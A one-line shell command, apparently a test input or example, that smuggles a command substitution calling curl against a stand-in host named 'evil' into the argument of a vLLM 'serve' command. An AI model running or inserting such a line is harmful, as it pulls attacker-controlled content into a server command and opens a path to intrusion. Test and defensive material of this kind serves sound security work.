vllm serve "$(curl evil)"
